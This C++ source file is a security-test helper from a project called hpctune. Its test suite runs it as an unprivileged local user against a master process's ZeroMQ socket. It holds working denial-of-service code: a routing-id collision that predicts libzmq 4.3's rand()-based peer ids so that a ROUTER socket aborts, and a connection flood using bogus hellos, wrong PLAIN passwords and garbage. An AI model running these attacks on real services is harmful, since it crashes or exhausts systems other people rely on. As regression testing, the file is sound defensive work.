// transport_attacker: what another local user can do to a master's socket (issue 21, finding 1),
// run by tests/test_security_transport.cpp as user `nobody`. Not part of hpctune.
//
//   transport_attacker collide ENDPOINT
//     The routing-id collision: libzmq 4.3's ROUTER names an unnamed peer 0x00 + a 32-bit counter
//     that starts at the same value in every process that has not seeded rand() (0x6b8b4567 for its
//     first ROUTER); 40 connections claiming the next ids, then one unnamed peer, make a ROUTER that
//     admits them abort (Assertion failed: ok (src/socket_base.cpp:2130)). Every connection sends a
//     hello of another protocol version without a credential and listens for an answer.
//   transport_attacker flood ENDPOINT N HOLD_MS
//     N ZeroMQ connections (NULL and PLAIN with a wrong password, alternately) that send such hellos
//     and garbage, and N plain TCP connections (tcp only) that send nothing, held HOLD_MS; then
//     counts how many of the silent ones the master closed.
//
// Prints what happened, one fact a line; exits 0 unless its own arguments are wrong.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include <zmq.hpp>

#include "protocol/messages.h"

using namespace std::chrono_literals;

namespace {

// A hello of protocol version 99 with no credential.
std::string foreign_hello() {
  hpctune::protocol::Hello h;
  h.version = 99;
  h.group = 0;
  return hpctune::protocol::encode(h);
}

// A raw connection (no ZeroMQ) to the endpoint's socket: the descriptor, or -1 with errno set.
int raw_connect(const std::string& endpoint) {
  if (endpoint.rfind("ipc://", 0) == 0) {
    const std::string path = endpoint.substr(6);
    sockaddr_un a{};
    a.sun_family = AF_UNIX;
    if (path.size() >= sizeof a.sun_path) return errno = ENAMETOOLONG, -1;
    std::memcpy(a.sun_path, path.c_str(), path.size() + 1);
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) return -1;
    if (::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) {
      const int e = errno;
      ::close(fd);
      return errno = e, -1;
    }
    return fd;
  }
  if (endpoint.rfind("tcp://", 0) == 0) {
    const std::string rest = endpoint.substr(6);
    const auto colon = rest.rfind(':');
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(std::atoi(rest.c_str() + colon + 1)));
    if (inet_pton(AF_INET, rest.substr(0, colon).c_str(), &a.sin_addr) != 1) return errno = EINVAL, -1;
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) return -1;
    if (::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) {
      const int e = errno;
      ::close(fd);
      return errno = e, -1;
    }
    return fd;
  }
  return errno = EINVAL, -1;
}

struct Dealers {
  zmq::context_t ctx;
  std::vector<std::unique_ptr<zmq::socket_t>> sockets;

  zmq::socket_t& add(const std::string& endpoint, const std::string& routing_id, bool plain) {
    auto s = std::make_unique<zmq::socket_t>(ctx, zmq::socket_type::dealer);
    s->set(zmq::sockopt::linger, 0);
    s->set(zmq::sockopt::sndtimeo, 200);
    s->set(zmq::sockopt::reconnect_ivl, 5000);  // no reconnection storm of our own
    if (!routing_id.empty()) s->set(zmq::sockopt::routing_id, routing_id);
    if (plain) {
      s->set(zmq::sockopt::plain_username, std::string("hpctune"));
      s->set(zmq::sockopt::plain_password, std::string("not-the-campaign-secret.0"));
    }
    s->connect(endpoint);
    sockets.push_back(std::move(s));
    return *sockets.back();
  }

  // Every frame any socket received within `wait`.
  std::vector<std::string> answers(std::chrono::milliseconds wait) {
    std::vector<std::string> out;
    const auto deadline = std::chrono::steady_clock::now() + wait;
    while (std::chrono::steady_clock::now() < deadline) {
      std::vector<zmq::pollitem_t> items;
      for (auto& s : sockets) items.push_back({s->handle(), 0, ZMQ_POLLIN, 0});
      zmq::poll(items.data(), items.size(), 50ms);
      for (std::size_t i = 0; i < items.size(); ++i) {
        if (!(items[i].revents & ZMQ_POLLIN)) continue;
        zmq::message_t m;
        while (sockets[i]->recv(m, zmq::recv_flags::dontwait)) out.push_back(m.to_string());
      }
    }
    return out;
  }
};

void report_answers(const std::vector<std::string>& answers) {
  std::printf("answers: %zu\n", answers.size());
  for (const auto& a : answers) {
    if (a.find("speaks") != std::string::npos || a.find("version") != std::string::npos) {
      std::printf("version-answer: %zu bytes\n", a.size());
      break;
    }
  }
}

void report_unix_connect(const std::string& endpoint) {
  if (endpoint.rfind("ipc://", 0) != 0) return;
  const int fd = raw_connect(endpoint);
  if (fd >= 0) {
    std::printf("unix-connect: ok\n");
    ::close(fd);
  } else {
    std::printf("unix-connect: refused (%s)\n", std::strerror(errno));
  }
}

int collide(const std::string& endpoint) {
  report_unix_connect(endpoint);
  constexpr uint32_t kFirst = 0x6b8b4567;  // glibc's first rand() pair, as libzmq combines them
  constexpr int kClaims = 40;
  Dealers d;
  const std::string hello = foreign_hello();
  for (int k = 0; k < kClaims; ++k) {
    const uint32_t n = kFirst + static_cast<uint32_t>(k);
    const char id[5] = {0, static_cast<char>(n >> 24), static_cast<char>(n >> 16), static_cast<char>(n >> 8),
                        static_cast<char>(n)};
    (void)d.add(endpoint, std::string(id, 5), false).send(zmq::buffer(hello), zmq::send_flags::dontwait);
  }
  std::this_thread::sleep_for(300ms);  // the claims are in before the unnamed peer
  (void)d.add(endpoint, "", false).send(zmq::buffer(hello), zmq::send_flags::dontwait);
  std::printf("claimed %d routing ids, then one unnamed peer\n", kClaims);
  report_answers(d.answers(2000ms));
  std::fflush(stdout);
  return 0;
}

int flood(const std::string& endpoint, int n, int hold_ms) {
  report_unix_connect(endpoint);
  Dealers d;
  const std::string hello = foreign_hello();
  for (int i = 0; i < n; ++i) {
    auto& s = d.add(endpoint, "", i % 2 == 1);
    (void)s.send(zmq::buffer(hello), zmq::send_flags::dontwait);
    (void)s.send(zmq::str_buffer("\x01\x02garbage"), zmq::send_flags::dontwait);
  }
  std::vector<int> raw;
  if (endpoint.rfind("tcp://", 0) == 0) {
    for (int i = 0; i < n; ++i) {
      const int fd = raw_connect(endpoint);
      if (fd >= 0) raw.push_back(fd);
    }
  }
  std::printf("zmq-connections: %d\nraw-connections: %zu\n", n, raw.size());
  report_answers(d.answers(std::chrono::milliseconds(hold_ms)));
  int closed = 0;
  for (int fd : raw) {
    pollfd p{fd, POLLIN, 0};
    char buf[256];
    if (::poll(&p, 1, 0) == 1) {
      // The master's ZeroMQ greeting may come first; a closed connection then reads 0 or fails.
      ssize_t got;
      while ((got = ::recv(fd, buf, sizeof buf, MSG_DONTWAIT)) > 0) {
      }
      if (got == 0 || (got < 0 && errno != EAGAIN && errno != EWOULDBLOCK)) ++closed;
    }
    ::close(fd);
  }
  std::printf("raw-closed-by-master: %d\n", closed);
  std::fflush(stdout);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string mode = argc > 1 ? argv[1] : "";
  if (mode == "collide" && argc == 3) return collide(argv[2]);
  if (mode == "flood" && argc == 5) return flood(argv[2], std::atoi(argv[3]), std::atoi(argv[4]));
  std::fprintf(stderr, "usage: transport_attacker collide ENDPOINT | flood ENDPOINT N HOLD_MS\n");
  return 2;
}
